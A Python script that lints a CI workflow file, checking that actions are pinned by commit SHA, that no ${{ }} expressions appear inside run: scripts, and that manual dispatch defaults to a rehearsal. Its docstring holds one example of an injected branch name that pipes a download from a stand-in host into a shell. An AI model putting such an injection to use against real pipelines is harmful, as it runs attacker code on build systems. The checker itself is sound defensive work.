#!/usr/bin/env python3
"""The rules docs/ci/prerelease.yml keeps beyond what actionlint checks.

- every action is pinned by a full commit SHA (a tag can be moved);
- no ${{ }} expression inside a `run:` script: inputs reach the shell through
  `env:` only (an expression is pasted into the script before bash reads it,
  so a branch named `x";curl evil|sh;"` would run);
- a manual dispatch defaults to a rehearsal.
Usage: scripts/check-ci-workflow.py FILE...  Exit 1 on any finding.
"""
import re
import sys

import yaml

PINNED = re.compile(r"^[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}$")


def steps(doc):
    for job in (doc.get("jobs") or {}).values():
        for step in job.get("steps") or []:
            yield step


def check(path):
    with open(path, encoding="utf-8") as f:
        doc = yaml.safe_load(f)
    problems = []
    for step in steps(doc):
        name = step.get("name", step.get("uses", "?"))
        uses = step.get("uses")
        if uses and not uses.startswith("./") and not PINNED.match(uses):
            problems.append(f"step '{name}': `uses: {uses}` is not pinned by a commit SHA")
        run = step.get("run")
        if run and "${{" in run:
            problems.append(f"step '{name}': a ${{{{ }}}} expression inside `run:`; pass it through `env:`")
    on = doc.get(True, doc.get("on")) or {}  # YAML 1.1 reads the key `on` as True
    dispatch = (on.get("workflow_dispatch") or {}) if isinstance(on, dict) else {}
    mode = ((dispatch.get("inputs") or {}).get("mode") or {})
    if mode and mode.get("default") != "rehearse":
        problems.append(f"workflow_dispatch input `mode` defaults to {mode.get('default')!r}, not rehearse")
    return [f"{path}: {p}" for p in problems]


def main():
    problems = [p for path in sys.argv[1:] for p in check(path)]
    for p in problems:
        print(p)
    if problems:
        sys.exit(1)
    print(f"check-ci-workflow: {len(sys.argv) - 1} file(s), no findings")


if __name__ == "__main__":
    main()
